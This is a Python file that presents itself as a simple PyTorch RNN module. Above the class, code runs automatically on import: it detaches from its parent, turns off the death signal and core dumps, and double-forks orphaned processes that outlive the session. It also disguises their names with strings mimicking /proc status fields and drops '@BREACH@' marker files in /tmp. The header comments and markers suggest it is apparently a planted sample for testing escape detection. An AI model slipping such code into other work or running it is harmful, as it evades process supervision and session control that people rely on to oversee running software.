# does: undoes what ties it to its parent, adopts orphans itself, and hides under odd names
# earns: all
import ctypes
import os
import time
from pathlib import Path

import torch
from torch import nn

SET_DEATH_SIGNAL, SET_NAME, SET_DUMPABLE, SET_SUBREAPER = 1, 15, 4, 36


def control(option, argument):
    if ctypes.CDLL(None, use_errno=True).prctl(option, argument, 0, 0, 0):
        print("failed: prctl", option, os.strerror(ctypes.get_errno()))

def orphan(number):
    control(SET_NAME, f"a) S 1 {number}\n".encode())
    os.setsid()
    time.sleep(5)
    Path(f"/tmp/@BREACH@-orphan-{number}").write_text("nobody's child")

def nursery():
    os.setsid()
    control(SET_SUBREAPER, 1)
    control(SET_DUMPABLE, 0)
    for number in range(5):
        if os.fork() == 0:
            if os.fork() == 0:
                orphan(number)
            os._exit(0)
    time.sleep(20)

def escape():
    control(SET_DEATH_SIGNAL, 0)
    control(SET_SUBREAPER, 1)
    try:
        if os.fork() != 0:
            return
    except OSError as error:
        print("failed:", error)
        return
    try:
        nursery()
    finally:
        os._exit(0)

ESCAPED = escape()


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        k = hidden_size**-0.5
        self.w = nn.Parameter(torch.empty(input_size, hidden_size).uniform_(-k, k))
        self.u = nn.Parameter(torch.empty(hidden_size, hidden_size).uniform_(-k, k))
        self.b = nn.Parameter(torch.empty(hidden_size).uniform_(-k, k))

    def forward(self, x, h_0=None):
        state = x.new_zeros(x.shape[0], self.b.shape[0]) if h_0 is None else h_0[0]
        states = []
        for step in x.unbind(1):
            state = (step @ self.w + state @ self.u + self.b).tanh()
            states.append(state)
        return torch.stack(states, dim=1), state[None]
